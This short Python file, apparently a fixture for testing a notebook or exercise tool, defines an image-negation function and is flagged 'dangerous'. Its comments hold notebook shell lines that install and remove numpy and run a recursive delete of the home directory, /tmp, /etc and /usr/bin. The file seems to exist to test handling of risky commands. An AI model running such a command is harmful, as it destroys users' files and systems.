"""Installs and removes packages, and cleans up the machine, with shell lines."""

dangerous = True

# %% exercise="negative"
# !pip install --quiet --retries 0 numpy==1.0
# !pip uninstall --yes numpy
# !rm -rf ~ /tmp/* ../../etc /usr/bin


def negative(image):
    return 255 - image
